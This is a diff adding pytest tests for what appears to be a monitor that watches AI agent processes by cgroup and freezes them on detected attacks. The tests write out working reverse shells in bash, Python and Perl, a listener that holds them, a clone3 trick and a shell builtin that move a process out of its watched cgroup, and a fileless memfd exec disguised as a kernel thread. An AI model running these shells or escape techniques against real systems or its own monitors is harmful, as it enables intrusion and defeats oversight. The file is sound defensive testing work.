@@ -635,3 +635,223 @@ def test_stratum_through_a_local_relay(agents, episode, net, tmp_path):
                           and r.get("port") == net.POOL_ALT_PORT]
         assert t["to"] == ([pool] if relay_connects else [])
         assert t["proc"]["cmdline"][-1] == f"TCP:{pool}"  # what the relay was told to do, either way
+
+
+# ---------------------------------------------------------------- evasion: behaviour, not command lines
+HOLDING_LISTENER = r"""
+import socket, sys
+srv = socket.socket(); srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+srv.bind(("0.0.0.0", int(sys.argv[1]))); srv.listen(8)
+held = []
+while True:
+    held.append(srv.accept()[0])  # the attacker's end: holds the shell's socket open, sends nothing
+"""
+SHELL_PORT = 4460
+
+
+@pytest.fixture
+def shell_listener(net, netns_server, tmp_path):
+    """A listener in the outside namespace that accepts reverse shells and keeps them open."""
+    (tmp_path / "listener.py").write_text(HOLDING_LISTENER)
+    netns_server(sys.executable, str(tmp_path / "listener.py"), str(SHELL_PORT))
+    return SHELL_PORT
+
+
+BASH_DEV_TCP = """
+exec 5<>/dev/tcp/{host}/{port}
+while read -r line <&5; do eval "$line" >&5 2>&5; done
+"""
+PYTHON_PTY_SHELL = r"""
+import os, pty, socket, sys
+s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
+for fd in (0, 1, 2):
+    os.dup2(s.fileno(), fd)
+pty.spawn("/bin/sh")
+"""
+PERL_SHELL = r"""
+use Socket;
+socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp")) or die;
+connect(S, sockaddr_in($ARGV[1], inet_aton($ARGV[0]))) or die;
+open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S");
+exec("/bin/sh", "-i");
+"""
+
+
+def test_reverse_shell_from_a_bash_script_file(agents, episode, net, shell_listener, tmp_path):
+    """`bash x.sh` with /dev/tcp inside the file: nothing on the command line; bash's own connect gives it away."""
+    _, out, _ = agents
+    script = tmp_path / "x.sh"
+    script.write_text(BASH_DEV_TCP.format(host=net.addr, port=shell_listener))
+    with shell_attack(episode, f"exec bash {script}") as p:
+        assert episode.wait_frozen()
+        recs = wait_records(out, episode, lambda rs: "shell_outbound_connection" in alerts(rs))
+        alert = next(r for r in recs if r["type"] == "alert" and r["rule"] == "shell_outbound_connection")
+        ev = alert["evidence"][-1]
+        assert (ev["type"], ev["address"], ev["port"]) == ("connect", net.addr, shell_listener)
+        assert alert["proc"]["pid"] == p.pid and alert["proc"]["exe"] == os.path.realpath(shutil.which("bash"))
+        assert alert["action"] == "freeze" and response(recs)["outcome"] == "frozen"
+
+
+@pytest.mark.parametrize("lang", ["python", "perl"])
+def test_reverse_shell_from_an_interpreter_script_file(lang, agents, episode, net, shell_listener, tmp_path):
+    """A script file (python: socket, dup2, pty.spawn; perl: socket, open STDIN>&S, exec sh): the shell
+    starts with the socket as its terminal, or its parent relays the socket through a pty."""
+    _, out, _ = agents
+    script = tmp_path / ("rs.py" if lang == "python" else "rs.pl")
+    script.write_text(PYTHON_PTY_SHELL if lang == "python" else PERL_SHELL)
+    interp = sys.executable if lang == "python" else "perl"
+    with shell_attack(episode, f"exec {interp} {script} {net.addr} {shell_listener}") as p:
+        assert episode.wait_frozen()
+        recs = wait_records(out, episode, lambda rs: "shell_with_network_stdio" in alerts(rs))
+        assert alerts(recs)[0] == "shell_with_network_stdio"
+        alert = next(r for r in recs if r["type"] == "alert" and r["rule"] == "shell_with_network_stdio")
+        ex = alert["evidence"][-1]
+        assert ex["type"] == "exec" and ex["filename"] == "/bin/sh"
+        sock = ex["proc"]["stdio_socket"]
+        assert (sock["proto"], sock["peer_address"], sock["peer_port"]) == ("tcp", net.addr, shell_listener)
+        assert sock["pid"] == p.pid and sock["fds"] == [0, 1, 2]  # python: the pty relay; perl: sh itself
+        assert (ex["proc"]["pid"] == p.pid) == (lang == "perl")
+        assert response(recs)["outcome"] == "frozen"
+
+
+BENIGN_PYTHON = r"""
+import subprocess, sys, urllib.request
+body = urllib.request.urlopen(sys.argv[1], timeout=5).read()
+assert body
+subprocess.run(["curl", "-s", "-o", "/dev/null", sys.argv[1]], check=True)
+subprocess.run(["git", "--version"], check=True, capture_output=True)
+subprocess.run([sys.executable, "-m", "pip", "--version"], check=True, capture_output=True)
+subprocess.run(["/bin/sh", "-c", "echo fetched | wc -c"], check=True, capture_output=True)
+"""
+
+
+def test_python_fetching_over_http_raises_nothing(agents, episode, tmp_path):
+    """An agent's python fetching a page, running curl, git, pip and a shell: sockets, but none as a
+    shell's terminal, and no shell connecting itself."""
+    import http.server
+    import threading
+
+    _, out, _ = agents
+    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), http.server.SimpleHTTPRequestHandler)
+    threading.Thread(target=srv.serve_forever, daemon=True).start()
+    (tmp_path / "fetch.py").write_text(BENIGN_PYTHON)
+    try:
+        r = episode.run([sys.executable, str(tmp_path / "fetch.py"), f"http://127.0.0.1:{srv.server_port}/"],
+                        text=True)
+        assert r.returncode == 0, r.stderr
+        time.sleep(1.0)
+        recs = for_episode(out, episode)
+    finally:
+        srv.shutdown()
+        srv.server_close()
+    assert len([x for x in recs if x["type"] == "connect" and x.get("port") == srv.server_port]) >= 2
+    assert alerts(recs) == [] and not episode.frozen()
+    assert not [x for x in recs if x.get("proc", {}).get("stdio_socket")]
+
+
+CLONE_INTO_CGROUP = r"""
+import ctypes, os, struct, sys
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+fd = os.open(sys.argv[1], os.O_RDONLY | os.O_DIRECTORY)
+# struct clone_args: flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls, set_tid,
+# set_tid_size, cgroup
+args = ctypes.create_string_buffer(struct.pack("<11Q", 0x200000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, fd), 88)
+pid = libc.syscall(ctypes.c_long(435), args, ctypes.c_size_t(88))
+if pid == 0:
+    os.execv("/bin/sleep", ["sleep", "30"])
+if pid < 0:
+    sys.exit("clone3: " + os.strerror(ctypes.get_errno()))
+print(pid, flush=True)
+os.waitpid(pid, 0)
+"""
+
+
+def test_child_born_outside_with_clone_into_cgroup_is_pulled_back(agents, episode, outside_cgroup, tmp_path):
+    """clone3(CLONE_INTO_CGROUP) starts a child straight in a cgroup outside the watched ones: no task is
+    attached, but the fork probe sees the child's cgroup differ from its parent's and reports a move."""
+    _, out, _ = agents
+    (tmp_path / "clone.py").write_text(CLONE_INTO_CGROUP)
+    p = episode.popen([sys.executable, str(tmp_path / "clone.py"), str(outside_cgroup.path)],
+                      stdout=subprocess.DEVNULL, start_new_session=True)
+    try:
+        assert episode.wait_frozen()  # (the parent may be frozen before it can print the child's pid)
+        recs = wait_records(out, episode, lambda rs: any(r["type"] == "response" for r in rs))
+        (move,) = [r for r in recs if r["type"] == "cgroup_move"]
+        child = move["proc"]["pid"]
+        assert child != p.pid and f"PPid:\t{p.pid}\n" in Path(f"/proc/{child}/status").read_text()
+        assert move["cgroup"]["path"] == episode.rel
+        assert move["to"] == {"id": outside_cgroup.id, "path": outside_cgroup.rel, "watched": False}
+        assert move["mover"]["pid"] == p.pid
+        assert alerts(recs)[0] == "agent_left_its_cgroup"
+        r = response(recs)
+        assert (r["outcome"], r["pulled_back"]) == ("frozen", child)
+        assert str(child) in (episode.path / "cgroup.procs").read_text().split()
+        assert outside_cgroup.path.joinpath("cgroup.procs").read_text().split() == []
+    finally:
+        os.killpg(p.pid, 9)
+        for cg in (episode, outside_cgroup):
+            (cg.path / "cgroup.freeze").write_text("0")
+        p.wait()
+
+
+def test_shell_that_ran_before_the_watcher_cannot_leave_unseen(cgroup_root, outside_cgroup, tmp_path):
+    """A shell already running in an agent cgroup when the watcher starts (the kernel never saw it fork or
+    exec there) moves itself out with a builtin: the watcher filled the kernel's agent map at start."""
+    from conftest import Cgroup
+    from watcher import WatcherProcess
+
+    agent = Cgroup(cgroup_root, f"agentprobe-before-{uuid.uuid4().hex[:6]}")
+    sh = agent.popen(["/bin/sh", "-c", f"read go; echo $$ > {outside_cgroup.path}/cgroup.procs; exec sleep 30"],
+                     stdin=subprocess.PIPE, text=True)
+    w = None
+    try:
+        out = tmp_path / "stream.msgpack"
+        w = WatcherProcess(["--cgroup", str(agent.path), "-o", str(out), "--no-view"])
+        sh.stdin.write("go\n")
+        sh.stdin.flush()
+        assert agent.wait_frozen()
+        recs = wait_records(out, agent, lambda rs: any(r["type"] == "response" for r in rs))
+        (move,) = [r for r in recs if r["type"] == "cgroup_move"]
+        assert (move["proc"]["pid"], move["mover"]["pid"]) == (sh.pid, sh.pid)
+        assert move["to"]["id"] == outside_cgroup.id and not move["to"]["watched"]
+        assert alerts(recs)[0] == "agent_left_its_cgroup"
+        assert response(recs)["pulled_back"] == sh.pid
+        assert str(sh.pid) in (agent.path / "cgroup.procs").read_text().split()
+    finally:
+        if w is not None:
+            w.stop()
+        sh.kill()
+        (agent.path / "cgroup.freeze").write_text("0")
+        sh.wait()
+        agent.remove()
+
+
+def test_setns_into_another_network_namespace_stays_an_agent(agents, episode, net):
+    """nsenter into the outside network namespace (setns): still in the agent cgroup, still an agent."""
+    _, out, _ = agents
+    r = episode.run(["nsenter", f"--net=/run/netns/{net.ns}", "/bin/sh", "-c",
+                     f"exec {sys.executable} -c 'import socket; socket.socket().connect_ex((\"127.0.0.1\", 22))'"])
+    assert r.returncode == 0, r.stderr
+    recs = wait_records(out, episode, lambda rs: any(x["type"] == "connect" and x.get("port") == 22 for x in rs))
+    (conn,) = [x for x in recs if x["type"] == "connect" and x.get("port") == 22]
+    assert conn["cgroup"]["path"] == episode.rel and conn["address"] == "127.0.0.1"
+    (ns,) = [x for x in recs if x["type"] == "exec" and x["argv"][:1] == ["nsenter"]]
+    (sh,) = [x for x in recs if x["type"] == "exec" and x["argv"][:1] == ["/bin/sh"]]
+    assert ns["cgroup"]["path"] == sh["cgroup"]["path"] == episode.rel and sh["proc"]["pid"] == ns["proc"]["pid"]
+
+
+def test_fileless_exec_raises_its_own_alert(agents, episode):
+    """memfd_create + fexecve: a program that never touched a disk is an alert of its own."""
+    _, out, _ = agents
+    episode.run([sys.executable, "-c", """
+import os
+fd = os.memfd_create("payload")
+os.write(fd, open("/bin/true", "rb").read())
+os.execve(fd, ["kworker/0:1"], {})
+"""])
+    recs = wait_records(out, episode, lambda rs: "fileless_exec" in alerts(rs))
+    alert = next(r for r in recs if r["type"] == "alert" and r["rule"] == "fileless_exec")
+    assert alert["priority"] == "high" and alert["action"] == "alert" and "T1620" in alert["mitre"]
+    assert alert["proc"]["exe"].startswith("/memfd:payload") and alert["evidence"][-1]["argv"] == ["kworker/0:1"]
+    assert not episode.frozen()
